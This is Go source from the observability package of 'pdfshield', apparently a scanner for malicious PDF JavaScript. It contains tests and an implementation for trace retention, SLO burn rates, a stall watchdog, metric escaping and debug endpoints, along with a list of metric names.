		name := Series(MetricFlightRetained, "reason", reason)
		got, ok := snap.Counters[name]
		if !ok {
			t.Errorf("retention counter %s not registered", name)
		} else if got != want {
			t.Errorf("retention counter %s = %d, want %d", name, got, want)
		}
	}
}

// TestFlightRecorderDisabledAndNil: negative ring sizes disable
// retention without disabling recording, and every method is nil-safe.
func TestFlightRecorderDisabledAndNil(t *testing.T) {
	f := NewFlightRecorder(FlightConfig{Recent: -1, Tail: -1})
	f.Record(&Trace{DocID: "x", Outcome: OutcomeErrored}, time.Second)
	if got := f.Recent(0); len(got) != 0 {
		t.Errorf("disabled recent ring returned %d records", len(got))
	}
	if got := f.Tail(0); len(got) != 0 {
		t.Errorf("disabled tail ring returned %d records", len(got))
	}
	if st := f.Stats(); st.Recorded != 1 {
		t.Errorf("Recorded = %d, want 1 (recording continues with rings off)", st.Recorded)
	}

	var nf *FlightRecorder
	nf.Record(&Trace{DocID: "y"}, time.Second)
	if nf.Recent(1) != nil || nf.Tail(1) != nil || nf.Find("y") != nil || nf.Slowest(1) != nil {
		t.Error("nil recorder returned records")
	}
	if st := nf.Stats(); st != (FlightStats{}) {
		t.Errorf("nil recorder Stats = %+v, want zero", st)
	}
}

// TestSLOTrackerBurnRate pins the burn-rate math on a fake clock:
// first-match-wins objective selection, failed submissions always
// breaching, and window expiry zeroing the burn while lifetime totals
// persist.
func TestSLOTrackerBurnRate(t *testing.T) {
	tr := NewSLOTracker(SLOConfig{
		Objectives: []SLOObjective{
			{Name: "deep", Depth: "deep", Latency: time.Second, Target: 0.9},
			{Name: "all", Latency: time.Second, Target: 0.5},
			{Name: "bad-target", Latency: time.Second, Target: 1.5}, // skipped
			{Name: "", Latency: time.Second, Target: 0.9},           // skipped
		},
		Window: 10 * time.Second,
	})
	now := time.Unix(5000, 0)
	tr.nowFn = func() time.Time { return now }

	if got := len(tr.Status()); got != 2 {
		t.Fatalf("tracker kept %d objectives, want 2 (invalid ones skipped)", got)
	}

	tr.Observe("deep", "", 500*time.Millisecond, false) // deep: in bound
	tr.Observe("deep", "", 2*time.Second, false)        // deep: breach
	tr.Observe("standard", "", 2*time.Second, false)    // all: breach
	tr.Observe("standard", "", 100*time.Millisecond, true) // all: fast but failed = breach

	byName := func(sts []SLOStatus, name string) SLOStatus {
		for _, s := range sts {
			if s.Objective.Name == name {
				return s
			}
		}
		t.Fatalf("objective %q missing from %+v", name, sts)
		return SLOStatus{}
	}

	sts := tr.Status()
	deep := byName(sts, "deep")
	if deep.Observed != 2 || deep.Breached != 1 || deep.WindowObserved != 2 || deep.WindowBreached != 1 {
		t.Errorf("deep status = %+v, want 2 observed / 1 breached", deep)
	}
	// Breach rate 0.5 against a 0.1 error budget: burning 5x allowance.
	if deep.BurnRate < 4.99 || deep.BurnRate > 5.01 {
		t.Errorf("deep burn rate = %v, want 5.0", deep.BurnRate)
	}
	all := byName(sts, "all")
	if all.Observed != 2 || all.Breached != 2 {
		t.Errorf("all status = %+v, want 2 observed / 2 breached (failed counts as breach)", all)
	}
	if all.BurnRate < 1.99 || all.BurnRate > 2.01 {
		t.Errorf("all burn rate = %v, want 2.0", all.BurnRate)
	}

	// Registered series expose the same numbers.
	reg := NewRegistry()
	tr.Register(reg)
	snap := reg.Snapshot()
	if got := snap.Gauges[Series(MetricSLOBurnRate, "slo", "deep")]; got < 4.99 || got > 5.01 {
		t.Errorf("burn-rate gauge = %v, want 5.0", got)
	}
	if got := snap.Counters[Series(MetricSLOObserved, "slo", "deep")]; got != 2 {
		t.Errorf("observed counter = %d, want 2", got)
	}
	if got := snap.Counters[Series(MetricSLOBreaches, "slo", "all")]; got != 2 {
		t.Errorf("breaches counter = %d, want 2", got)
	}

	// Advance past the window: burn collapses to 0, lifetime persists.
	now = now.Add(30 * time.Second)
	deep = byName(tr.Status(), "deep")
	if deep.WindowObserved != 0 || deep.BurnRate != 0 {
		t.Errorf("expired window still reports %+v", deep)
	}
	if deep.Observed != 2 || deep.Breached != 1 {
		t.Errorf("lifetime totals lost on window expiry: %+v", deep)
	}

	var nt *SLOTracker
	nt.Observe("deep", "", time.Second, false)
	if nt.Status() != nil {
		t.Error("nil tracker returned status")
	}
}

// TestWatchdogScan drives the stall watchdog deterministically on a fake
// clock: only docs past the deadline in a watched phase are flagged, each
// at most once per phase, with a goroutine dump and the doc's journal
// context captured; a phase transition re-arms the clock.
func TestWatchdogScan(t *testing.T) {
	reg := NewRegistry()
	w := NewWatchdog(WatchdogConfig{
		Deadline: 10 * time.Second,
		Interval: time.Hour, // background loop stays out of the test's way
		Context:  func(docID string) any { return "journal-of-" + docID },
		Obs:      reg,
	})
	defer w.Stop()
	now := time.Unix(9000, 0)
	w.nowFn = func() time.Time { return now }

	stuck := w.Begin("doc-stuck")
	stuck.Phase(PhaseOpen)
	frontend := w.Begin("doc-frontend")
	frontend.Phase(PhaseParse) // not a watched phase
	finished := w.Begin("doc-finished")
	finished.Phase(PhaseOpen)
	finished.Done()

	if got := w.Inflight(); got != 2 {
		t.Errorf("Inflight = %d, want 2 (Done releases)", got)
	}

	now = now.Add(11 * time.Second)
	w.Scan()
	reports := w.Reports()
	if len(reports) != 1 {
		t.Fatalf("got %d stall reports, want 1: %+v", len(reports), reports)
	}
	rep := reports[0]
	if rep.DocID != "doc-stuck" || rep.Phase != PhaseOpen {
		t.Errorf("report = %s in %q, want doc-stuck in open", rep.DocID, rep.Phase)
	}
	if rep.Stalled < 11*time.Second {
		t.Errorf("Stalled = %v, want >= 11s", rep.Stalled)
	}
	if !strings.Contains(rep.Goroutines, "goroutine") {
		t.Error("stall report carries no goroutine dump")
	}
	if rep.Journal != "journal-of-doc-stuck" {
		t.Errorf("Journal context = %v, want the Context fetcher's value", rep.Journal)
	}

	// A second scan must not re-report the same stall.
	w.Scan()
	if got := w.Stalls(); got != 1 {
		t.Errorf("Stalls = %d after rescan, want 1 (one report per phase)", got)
	}

	// Entering a new watched phase re-arms the deadline; exceeding it
	// again produces a second report.
	stuck.Phase(PhaseDetect)
	w.Scan()
	if got := w.Stalls(); got != 1 {
		t.Errorf("fresh phase flagged immediately: stalls = %d", got)
	}
	now = now.Add(11 * time.Second)
	w.Scan()
	reports = w.Reports()
	if len(reports) != 2 || reports[0].Phase != PhaseDetect {
		t.Fatalf("after detect-phase stall: %+v", reports)
	}

	snap := reg.Snapshot()
	if got := snap.Counters[Series(MetricWatchdogStalls, "phase", PhaseOpen)]; got != 1 {
		t.Errorf("open stall counter = %d, want 1", got)
	}
	if got := snap.Counters[Series(MetricWatchdogStalls, "phase", PhaseDetect)]; got != 1 {
		t.Errorf("detect stall counter = %d, want 1", got)
	}

	st := w.Stats()
	if st.Stalls != 2 || st.DeadlineSeconds != 10 {
		t.Errorf("Stats = %+v, want 2 stalls / 10s deadline", st)
	}

	// Nil-safety: the unwatched pipeline configuration.
	var nw *Watchdog
	d := nw.Begin("x")
	d.Phase(PhaseOpen)
	d.Done()
	nw.Scan()
	nw.Stop()
	if nw.Reports() != nil || nw.Stalls() != 0 {
		t.Error("nil watchdog produced reports")
	}
}

// TestHistogramExemplars: each bucket retains the document ID of its
// slowest observation, surviving faster later observations, and the +Inf
// overflow bucket gets its own exemplar.
func TestHistogramExemplars(t *testing.T) {
	reg := NewRegistry()
	h := reg.Histogram("pdfshield_test_seconds", []float64{1, 10})
	h.ObserveExemplar(0.5, "doc-a")
	h.ObserveExemplar(0.7, "doc-b")
	h.ObserveExemplar(0.6, "doc-c") // faster than doc-b: must not displace it
	h.ObserveExemplar(50, "doc-huge")

	snap := reg.Snapshot().Histograms["pdfshield_test_seconds"]
	want := map[string]string{"1": "doc-b", "+Inf": "doc-huge"}
	if len(snap.Exemplars) != len(want) {
		t.Fatalf("exemplars = %+v, want one per occupied bucket", snap.Exemplars)
	}
	for _, ex := range snap.Exemplars {
		if want[ex.Le] == "" {
			t.Errorf("unexpected exemplar bucket %q", ex.Le)
			continue
		}
		if ex.DocID != want[ex.Le] {
			t.Errorf("bucket %q exemplar = %q (%.2fs), want %q", ex.Le, ex.DocID, ex.Seconds, want[ex.Le])
		}
	}

	// The registry-level convenience used by the pipeline.
	reg.ObserveDoc(MetricDocSeconds, 3*time.Second, "doc-slow")
	docSnap := reg.Snapshot().Histograms[MetricDocSeconds]
	found := false
	for _, ex := range docSnap.Exemplars {
		if ex.DocID == "doc-slow" {
			found = true
		}
	}
	if !found {
		t.Errorf("ObserveDoc exemplar missing: %+v", docSnap.Exemplars)
	}
}

// TestDeepScanBucketsCoverTail is the regression test for the widened
// deep-scan histogram: a 78s forced-execution open (the paper's ~78x
// overhead on a ~1s standard open) must land in a finite bucket instead
// of collapsing into +Inf as it did with the default 10s-top bounds.
func TestDeepScanBucketsCoverTail(t *testing.T) {
	if top := LatencyBuckets[len(LatencyBuckets)-1]; top != 10 {
		t.Fatalf("default top bucket moved to %v; update DeepScanBuckets reasoning", top)
	}
	if top := DeepScanBuckets[len(DeepScanBuckets)-1]; top <= 10 {
		t.Fatalf("DeepScanBuckets top bound %v does not extend past the default range", top)
	}
	for i := 1; i < len(DeepScanBuckets); i++ {
		if DeepScanBuckets[i] <= DeepScanBuckets[i-1] {
			t.Fatalf("DeepScanBuckets not ascending at %d: %v", i, DeepScanBuckets)
		}
	}

	reg := NewRegistry()
	h := reg.Histogram(MetricDeepScanSeconds, DeepScanBuckets)
	h.ObserveExemplar(78, "doc-deep-78s")

	snap := reg.Snapshot().Histograms[MetricDeepScanSeconds]
	// Cumulative counts: everything <= 60 must be 0, the 120 bucket 1.
	for _, b := range snap.Buckets {
		switch {
		case b.UpperBound <= 60 && b.Count != 0:
			t.Errorf("bucket le=%v count=%d, want 0 for a 78s observation", b.UpperBound, b.Count)
		case b.UpperBound >= 120 && b.Count != 1:
			t.Errorf("bucket le=%v count=%d, want 1 (observation must be finite-bucketed)", b.UpperBound, b.Count)
		}
	}
	if len(snap.Exemplars) != 1 || snap.Exemplars[0].Le != "120" || snap.Exemplars[0].DocID != "doc-deep-78s" {
		t.Errorf("deep-scan exemplar = %+v, want doc-deep-78s in le=120", snap.Exemplars)
	}
}

// TestPrometheusLabelEscaping pins the exposition-format escaping of
// hostile label values: quotes, backslashes and newlines must render in
// their escaped form and never break the one-series-per-line framing.
// Document IDs are attacker-chosen strings, so this is load-bearing.
func TestPrometheusLabelEscaping(t *testing.T) {
	reg := NewRegistry()
	hostile := "evil\"doc\\with\nnewline"
	reg.Inc(Series("pdfshield_test_total", "doc", hostile))

	var sb strings.Builder
	if err := reg.WritePrometheus(&sb); err != nil {
		t.Fatal(err)
	}
	text := sb.String()
	want := `pdfshield_test_total{doc="evil\"doc\\with\nnewline"} 1`
	if !strings.Contains(text, want+"\n") {
		t.Errorf("exposition missing escaped series %q:\n%s", want, text)
	}
	// Framing: every non-empty line is either a comment or name{...} value.
	for _, line := range strings.Split(text, "\n") {
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		if strings.LastIndexByte(line, ' ') <= 0 {
			t.Errorf("malformed exposition line %q", line)
		}
	}
	// And the value survives a round-trip through the parser helpers.
	if got := LabelValue(Series("m", "doc", hostile), "doc"); got != hostile {
		t.Errorf("LabelValue round-trip = %q, want %q", got, hostile)
	}
}

// TestBuildInfoGauge: the conventional build-identity series renders with
// constant value 1 and the stamped version labels.
func TestBuildInfoGauge(t *testing.T) {
	reg := NewRegistry()
	RegisterBuildInfo(reg)
	snap := reg.Snapshot()
	found := ""
	for name, v := range snap.Gauges {
		base, _ := SplitSeries(name)
		if base != MetricBuildInfo {
			continue
		}
		found = name
		if v != 1 {
			t.Errorf("%s = %v, want constant 1", name, v)
		}
	}
	if found == "" {
		t.Fatalf("no %s series in snapshot", MetricBuildInfo)
	}
	if got := LabelValue(found, "version"); got != Version {
		t.Errorf("version label = %q, want %q", got, Version)
	}
	if got := LabelValue(found, "go_version"); !strings.HasPrefix(got, "go") {
		t.Errorf("go_version label = %q", got)
	}
	RegisterBuildInfo(nil) // nil-safe
}

// TestDebugEndpoints mounts the live debug surface and exercises every
// endpoint over HTTP, including the per-document trace filter.
func TestDebugEndpoints(t *testing.T) {
	reg := NewRegistry()
	d := NewDiagnostics(reg, DiagConfig{Watchdog: WatchdogConfig{Interval: time.Hour}})
	defer d.Close()

	tr := &Trace{DocID: "doc-q", Outcome: OutcomeMalicious}
	tr.AddSpan(PhaseParse, 0, time.Millisecond)
	tr.AddSpan(PhaseOpen, time.Millisecond, 5*time.Millisecond)
	d.Flight.Record(tr, 6*time.Millisecond)
	d.SLO.Observe("standard", "", 100*time.Millisecond, false)

	mux := http.NewServeMux()
	d.RegisterDebug(mux, "/v1/debug")
	ts := httptest.NewServer(mux)
	defer ts.Close()

	get := func(path string) map[string]any {
		t.Helper()
		resp, err := http.Get(ts.URL + path)
		if err != nil {
			t.Fatalf("GET %s: %v", path, err)
		}
		defer resp.Body.Close()
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("GET %s: status %d", path, resp.StatusCode)
		}
		body, _ := io.ReadAll(resp.Body)
		var out map[string]any
		if err := json.Unmarshal(body, &out); err != nil {
			t.Fatalf("GET %s: bad JSON: %v\n%s", path, err, body)
		}
		return out
	}

	traces := get("/v1/debug/traces")
	if tail, ok := traces["tail"].([]any); !ok || len(tail) != 1 {
		t.Errorf("/traces tail = %v, want the quarantined record", traces["tail"])
	}

	byDoc := get("/v1/debug/traces?doc=doc-q")
	recs, _ := byDoc["traces"].([]any)
	if len(recs) != 1 {
		t.Fatalf("/traces?doc=doc-q = %v", byDoc)
	}
	rec, _ := recs[0].(map[string]any)
	trj, _ := rec["trace"].(map[string]any)
	spans, _ := trj["spans"].([]any)
	if len(spans) != 2 {
		t.Errorf("filtered trace lost its phase timeline: %v", trj)
	}

	slow := get("/v1/debug/slow")
	if s, ok := slow["slowest"].([]any); !ok || len(s) != 1 {
		t.Errorf("/slow = %v", slow)
	}

	slo := get("/v1/debug/slo")
	if objs, ok := slo["objectives"].([]any); !ok || len(objs) != len(DefaultSLOs()) {
		t.Errorf("/slo objectives = %v", slo["objectives"])
	}

	stalls := get("/v1/debug/stalls")
	if _, ok := stalls["stats"].(map[string]any); !ok {
		t.Errorf("/stalls = %v", stalls)
	}

	// Nil diagnostics mount nothing and must not panic.
	var nd *Diagnostics
	nd.RegisterDebug(http.NewServeMux(), "/v1/debug")
	nd.Close()
}

// TestPprofOptIn: the pprof handlers exist only after RegisterPprof —
// a server built without the opt-in must answer 404 on /debug/pprof/.
func TestPprofOptIn(t *testing.T) {
	reg := NewRegistry()
	d := NewDiagnostics(reg, DiagConfig{Watchdog: WatchdogConfig{Interval: time.Hour}})
	defer d.Close()

	off := http.NewServeMux()
	d.RegisterDebug(off, "/v1/debug")
	tsOff := httptest.NewServer(off)
	defer tsOff.Close()
	for _, path := range []string{"/debug/pprof/", "/debug/pprof/profile", "/debug/pprof/symbol"} {
		resp, err := http.Get(tsOff.URL + path)
		if err != nil {
			t.Fatalf("GET %s: %v", path, err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusNotFound {
			t.Errorf("pprof disabled but GET %s = %d, want 404", path, resp.StatusCode)
		}
	}

	on := http.NewServeMux()
	RegisterPprof(on)
	tsOn := httptest.NewServer(on)
	defer tsOn.Close()
	resp, err := http.Get(tsOn.URL + "/debug/pprof/")
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK || !strings.Contains(string(body), "goroutine") {
		t.Errorf("pprof enabled: GET /debug/pprof/ = %d", resp.StatusCode)
	}
}

// TestWriteDump: the SIGQUIT dump works on a nil handle (build identity
// and goroutines only) and includes the SLO, flight and stall sections
// when diagnostics are live.
func TestWriteDump(t *testing.T) {
	var sb strings.Builder
	var nd *Diagnostics
	nd.WriteDump(&sb)
	out := sb.String()
	for _, want := range []string{"pdfshield diagnostic dump", "version:", "--- goroutines ---", "goroutine"} {
		if !strings.Contains(out, want) {
			t.Errorf("nil dump missing %q", want)
		}
	}

	reg := NewRegistry()
	d := NewDiagnostics(reg, DiagConfig{Watchdog: WatchdogConfig{Interval: time.Hour}})
	defer d.Close()
	d.Flight.Record(&Trace{DocID: "doc-dump", Outcome: OutcomeErrored, Error: "x"}, 3*time.Second)
	d.SLO.Observe("standard", "", time.Millisecond, false)
	sb.Reset()
	d.WriteDump(&sb)
	out = sb.String()
	for _, want := range []string{"--- slo status ---", "--- flight recorder ---", "doc-dump"} {
		if !strings.Contains(out, want) {
			t.Errorf("live dump missing %q\n%s", want, out)
		}
	}
}

// TestDiagnosticsDisable: DiagConfig.Disable yields a nil, fully inert
// subsystem.
func TestDiagnosticsDisable(t *testing.T) {
	if d := NewDiagnostics(NewRegistry(), DiagConfig{Disable: true}); d != nil {
		t.Fatal("Disable did not return nil diagnostics")
	}
}
