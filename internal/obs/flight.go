package obs

import (
	"sort"
	"sync"
	"time"
)

// Flight-recorder retention reasons (TraceRecord.Retained). A trace with
// at least one reason is tail-sampled: it is always kept in the tail
// ring, however much ordinary traffic flows past it.
const (
	RetainErrored = "errored"
	RetainCrashed = "crashed"
	// RetainQuarantined marks convicted documents (an alert fired and
	// runtime confinement quarantined the artifacts).
	RetainQuarantined = "quarantined"
	RetainDeepScan    = "deep-scan"
	RetainSlow        = "slow"
)

// Defaults applied by NewFlightRecorder when the corresponding
// FlightConfig field is zero.
const (
	DefaultFlightRecent  = 128
	DefaultFlightTail    = 256
	DefaultSlowThreshold = 2 * time.Second
)

// FlightConfig tunes a FlightRecorder.
type FlightConfig struct {
	// Recent is the size of the ring holding the last completed traces,
	// interesting or not (0 = DefaultFlightRecent, negative = none).
	Recent int
	// Tail is the size of the tail-sample ring: errored, crashed,
	// quarantined, deep-scanned and over-threshold-slow traces are always
	// retained here, so heavy benign traffic cannot flush the traces an
	// operator actually needs (0 = DefaultFlightTail, negative = none).
	Tail int
	// SlowThreshold is the end-to-end latency above which a trace counts
	// as slow and is tail-retained (0 = DefaultSlowThreshold).
	SlowThreshold time.Duration
	// Obs receives the retention counters (MetricFlightRetained per
	// reason); nil-safe.
	Obs *Registry
}

// TraceRecord is one retained trace with its retention metadata.
type TraceRecord struct {
	// Seq is the recorder-assigned completion sequence (total order of
	// completions, newest highest).
	Seq uint64 `json:"seq"`
	// TotalSeconds is the submission's end-to-end latency.
	TotalSeconds float64 `json:"total_seconds"`
	// Retained lists why the trace was tail-sampled (empty for ordinary
	// traces living only in the recent ring).
	Retained []string `json:"retained,omitempty"`
	// Trace is the full phase timeline. Traces are immutable once
	// recorded; readers share the pointer.
	Trace *Trace `json:"trace"`
}

// FlightRecorder retains completed document traces in two fixed-size
// rings: a "recent" ring of the last N completions (the rolling context
// an operator reads first), and a "tail" ring where every interesting
// trace — errored, crashed, quarantined, deep-scanned, slow — is kept
// regardless of how much ordinary traffic follows. Memory is bounded by
// the two ring sizes; recording is O(1).
//
// All methods are safe for concurrent use and nil-safe, so optional
// diagnostics wire through the pipeline without guards.
type FlightRecorder struct {
	mu     sync.Mutex
	cfg    FlightConfig
	seq    uint64
	recent ring
	tail   ring
}

// ring is a fixed-size overwrite-oldest buffer of trace records.
type ring struct {
	buf  []TraceRecord
	next int // insertion index
	full bool
}

func newRing(n int) ring { return ring{buf: make([]TraceRecord, n)} }

func (r *ring) add(rec TraceRecord) {
	if len(r.buf) == 0 {
		return
	}
	r.buf[r.next] = rec
	r.next++
	if r.next == len(r.buf) {
		r.next = 0
		r.full = true
	}
}

// list returns the ring's records newest-first.
func (r *ring) list() []TraceRecord {
	n := r.next
	if r.full {
		n = len(r.buf)
	}
	out := make([]TraceRecord, 0, n)
	for i := 0; i < n; i++ {
		idx := r.next - 1 - i
		if idx < 0 {
			idx += len(r.buf)
		}
		out = append(out, r.buf[idx])
	}
	return out
}

// NewFlightRecorder builds a recorder with the given retention bounds.
func NewFlightRecorder(cfg FlightConfig) *FlightRecorder {
	if cfg.Recent == 0 {
		cfg.Recent = DefaultFlightRecent
	}
	if cfg.Tail == 0 {
		cfg.Tail = DefaultFlightTail
	}
	if cfg.SlowThreshold == 0 {
		cfg.SlowThreshold = DefaultSlowThreshold
	}
	f := &FlightRecorder{cfg: cfg}
	if cfg.Recent > 0 {
		f.recent = newRing(cfg.Recent)
	}
	if cfg.Tail > 0 {
		f.tail = newRing(cfg.Tail)
	}
	// Preregister the retention counters at zero so scrapes (and the
	// metric-drift lint) see every reason series from the start.
	for _, reason := range []string{
		RetainErrored, RetainCrashed, RetainQuarantined, RetainDeepScan, RetainSlow,
	} {
		cfg.Obs.CounterAdd(Series(MetricFlightRetained, "reason", reason), 0)
	}
	return f
}

// SlowThreshold reports the configured slow-trace retention threshold.
func (f *FlightRecorder) SlowThreshold() time.Duration {
	if f == nil {
		return 0
	}
	return f.cfg.SlowThreshold
}

// retentionReasons derives why a completed trace must be tail-sampled.
func (f *FlightRecorder) retentionReasons(tr *Trace, total time.Duration) []string {
	var reasons []string
	switch {
	case tr.Error != "" || tr.Outcome == OutcomeErrored:
		reasons = append(reasons, RetainErrored)
	case tr.Outcome == OutcomeCrashed:
		reasons = append(reasons, RetainCrashed)
	case tr.Outcome == OutcomeMalicious:
		reasons = append(reasons, RetainQuarantined)
	}
	if tr.DeepPaths > 0 || tr.Depth == "deep" {
		reasons = append(reasons, RetainDeepScan)
	}
	if total >= f.cfg.SlowThreshold {
		reasons = append(reasons, RetainSlow)
	}
	return reasons
}

// Record retains one completed trace. The trace must not be mutated
// after this call (the pipeline's contract: a trace is immutable once
// its verdict is returned).
func (f *FlightRecorder) Record(tr *Trace, total time.Duration) {
	if f == nil || tr == nil {
		return
	}
	reasons := f.retentionReasons(tr, total)
	f.mu.Lock()
	f.seq++
	rec := TraceRecord{Seq: f.seq, TotalSeconds: total.Seconds(), Retained: reasons, Trace: tr}
	f.recent.add(rec)
	if len(reasons) > 0 {
		f.tail.add(rec)
	}
	f.mu.Unlock()
	for _, reason := range reasons {
		f.cfg.Obs.Inc(Series(MetricFlightRetained, "reason", reason))
	}
}

// Recent returns up to n of the most recently completed traces,
// newest-first (n <= 0 = all retained).
func (f *FlightRecorder) Recent(n int) []TraceRecord {
	if f == nil {
		return nil
	}
	f.mu.Lock()
	out := f.recent.list()
	f.mu.Unlock()
	return clip(out, n)
}

// Tail returns up to n tail-sampled traces, newest-first (n <= 0 = all).
func (f *FlightRecorder) Tail(n int) []TraceRecord {
	if f == nil {
		return nil
	}
	f.mu.Lock()
	out := f.tail.list()
	f.mu.Unlock()
	return clip(out, n)
}

// Find returns every retained record for a document ID, newest-first.
// Tail hits are preferred over recent-ring duplicates of the same
// completion.
func (f *FlightRecorder) Find(docID string) []TraceRecord {
	if f == nil {
		return nil
	}
	f.mu.Lock()
	defer f.mu.Unlock()
	seen := make(map[uint64]bool)
	var out []TraceRecord
	for _, rec := range append(f.tail.list(), f.recent.list()...) {
		if rec.Trace == nil || rec.Trace.DocID != docID || seen[rec.Seq] {
			continue
		}
		seen[rec.Seq] = true
		out = append(out, rec)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Seq > out[j].Seq })
	return out
}

// Slowest returns up to n retained traces ordered by descending
// end-to-end latency, deduplicated across the two rings.
func (f *FlightRecorder) Slowest(n int) []TraceRecord {
	if f == nil {
		return nil
	}
	f.mu.Lock()
	seen := make(map[uint64]bool)
	var out []TraceRecord
	for _, rec := range append(f.tail.list(), f.recent.list()...) {
		if seen[rec.Seq] {
			continue
		}
		seen[rec.Seq] = true
		out = append(out, rec)
	}
	f.mu.Unlock()
	sort.Slice(out, func(i, j int) bool {
		if out[i].TotalSeconds != out[j].TotalSeconds {
			return out[i].TotalSeconds > out[j].TotalSeconds
		}
		return out[i].Seq > out[j].Seq
	})
	return clip(out, n)
}

// FlightStats summarizes the recorder's occupancy.
type FlightStats struct {
	// Recorded is the lifetime count of completed traces seen.
	Recorded uint64 `json:"recorded"`
	// RecentLen and TailLen are the rings' current occupancy;
	// RecentCap/TailCap their bounds.
	RecentLen int `json:"recent_len"`
	RecentCap int `json:"recent_cap"`
	TailLen   int `json:"tail_len"`
	TailCap   int `json:"tail_cap"`
}

// Stats snapshots the recorder.
func (f *FlightRecorder) Stats() FlightStats {
	if f == nil {
		return FlightStats{}
	}
	f.mu.Lock()
	defer f.mu.Unlock()
	st := FlightStats{
		Recorded:  f.seq,
		RecentCap: len(f.recent.buf),
		TailCap:   len(f.tail.buf),
	}
	st.RecentLen = f.recent.next
	if f.recent.full {
		st.RecentLen = len(f.recent.buf)
	}
	st.TailLen = f.tail.next
	if f.tail.full {
		st.TailLen = len(f.tail.buf)
	}
	return st
}

// clip bounds a newest-first slice to n entries (n <= 0 = no bound).
func clip(recs []TraceRecord, n int) []TraceRecord {
	if n > 0 && len(recs) > n {
		return recs[:n]
	}
	return recs
}
