package obs

import "strings"

// Canonical series names. Every component that reports into a Registry
// uses these, so the Prometheus exposition, the expvar snapshot and the
// public Stats API all agree on one vocabulary (documented in DESIGN.md
// §10).
const (
	// MetricPhaseSeconds is the per-phase latency histogram family; one
	// series per pipeline phase via PhaseSeries: parse, analyze,
	// instrument (front-end, observed by internal/instrument) and open,
	// detect (runtime, observed by internal/pipeline).
	MetricPhaseSeconds = "pdfshield_phase_seconds"
	// MetricDocSeconds is the end-to-end per-document latency histogram.
	MetricDocSeconds = "pdfshield_doc_seconds"

	// Pipeline outcome counters.
	MetricDocsTotal     = "pdfshield_docs_total"
	MetricDocsMalicious = "pdfshield_docs_malicious_total"
	MetricDocsNoJS      = "pdfshield_docs_nojavascript_total"
	MetricDocsCrashed   = "pdfshield_docs_crashed_total"
	MetricDocsErrored   = "pdfshield_docs_errored_total"
	MetricPanics        = "pdfshield_panics_contained_total"

	// Batch engine gauges.
	MetricBatchQueueDepth = "pdfshield_batch_queue_depth"
	MetricBatchWorkers    = "pdfshield_batch_workers"
	MetricSessionsActive  = "pdfshield_sessions_active"

	// Front-end (internal/instrument) counters.
	MetricDocsInstrumented = "pdfshield_docs_instrumented_total"
	MetricScripts          = "pdfshield_scripts_instrumented_total"
	MetricStagedRewrites   = "pdfshield_staged_rewrites_total"

	// Runtime detector (internal/detect) counters.
	MetricAlerts          = "pdfshield_alerts_total"
	MetricFakeMessages    = "pdfshield_fake_messages_total"
	MetricFeatureTriggers = "pdfshield_feature_triggers_total"

	// MetricHookAcceptErrors counts transient Accept failures on the
	// detector's hook listener (retried with backoff, never fatal).
	MetricHookAcceptErrors = "pdfshield_hook_accept_errors_total"

	// Ingestion daemon series (internal/serve). Admission is the bounded
	// queue in front of the scan workers; rejections carry a reason label
	// ("queue" = backpressure 429, "ratelimit" = tenant bucket empty,
	// "draining" = shutdown in progress). Proxied counts documents routed
	// to their consistent-hash owner peer.
	MetricServeQueueDepth = "pdfshield_serve_queue_depth"
	MetricServeInFlight   = "pdfshield_serve_inflight"
	MetricServeAccepted   = "pdfshield_serve_accepted_total"
	MetricServeRejected   = "pdfshield_serve_rejected_total"
	MetricServeProxied    = "pdfshield_serve_proxied_total"
	MetricServeSeconds    = "pdfshield_serve_request_seconds"

	// Forensic event journal health (internal/journal). The fail-open
	// contract routes sink errors here instead of failing detection.
	MetricJournalEvents = "pdfshield_journal_events_total"
	MetricJournalErrors = "pdfshield_journal_errors_total"

	// Front-end cache series (callback-backed from cache.Stats; see
	// Cache.RegisterMetrics).
	MetricCacheHits      = "pdfshield_cache_hits_total"
	MetricCacheMisses    = "pdfshield_cache_misses_total"
	MetricCacheShared    = "pdfshield_cache_shared_total"
	MetricCacheEvictions = "pdfshield_cache_evictions_total"
	MetricCacheExpired   = "pdfshield_cache_expired_total"
	MetricCacheEntries   = "pdfshield_cache_entries"
	MetricCacheBytes     = "pdfshield_cache_bytes"

	// Static triage tier series (internal/pipeline over internal/triage).
	// Routes carries a "route" label (benign/malicious/uncertain); the
	// histogram observes each triage evaluation.
	MetricTriageRoutes  = "pdfshield_triage_routes_total"
	MetricTriageSeconds = "pdfshield_triage_seconds"

	// Forced-execution deep-scan series (internal/pipeline over
	// internal/js ExploreForced). Paths counts every explored path
	// (natural ones included); the histogram observes the whole deep open
	// (reader open with forced execution active); the budget counter
	// counts scripts whose exploration a path/step/decision budget cut
	// short.
	MetricDeepScanPaths   = "pdfshield_deepscan_paths_total"
	MetricDeepScanSeconds = "pdfshield_deepscan_seconds"
	MetricDeepScanBudget  = "pdfshield_deepscan_budget_exhausted_total"

	// Bytecode JS engine series (internal/js). The histogram observes each
	// compile performed on a unit-cache miss; the counters/gauges are
	// callback-backed from js.UnitCache.Stats (see pipeline's System wiring).
	MetricJSCompileSeconds = "pdfshield_js_compile_seconds"
	MetricJSUnitsHits      = "pdfshield_js_units_hits_total"
	MetricJSUnitsMisses    = "pdfshield_js_units_misses_total"
	MetricJSUnitsEvictions = "pdfshield_js_units_evictions_total"
	MetricJSUnitsEntries   = "pdfshield_js_units_entries"
	MetricJSUnitsBytes     = "pdfshield_js_units_bytes"
)

// Pipeline phase names, in execution order (also the span names of a
// document trace).
const (
	PhaseParse      = "parse"
	PhaseAnalyze    = "analyze"
	PhaseInstrument = "instrument"
	// PhaseTriage is the static fast-path stage between instrument and
	// open (absent from traces when triage is disabled).
	PhaseTriage = "triage"
	PhaseOpen   = "open"
	PhaseDetect = "detect"
	// PhaseFrontEnd is the collapsed front-end span recorded when a cache
	// hit (or shared flight) skipped the real parse/analyze/instrument
	// phases.
	PhaseFrontEnd = "frontend"
)

// LatencyBuckets are the default histogram bounds in seconds, spanning
// the sub-millisecond front-end phases up to multi-second corpus passes.
var LatencyBuckets = []float64{
	50e-6, 100e-6, 250e-6, 500e-6,
	1e-3, 2.5e-3, 5e-3, 10e-3, 25e-3, 50e-3, 100e-3, 250e-3, 500e-3,
	1, 2.5, 5, 10,
}

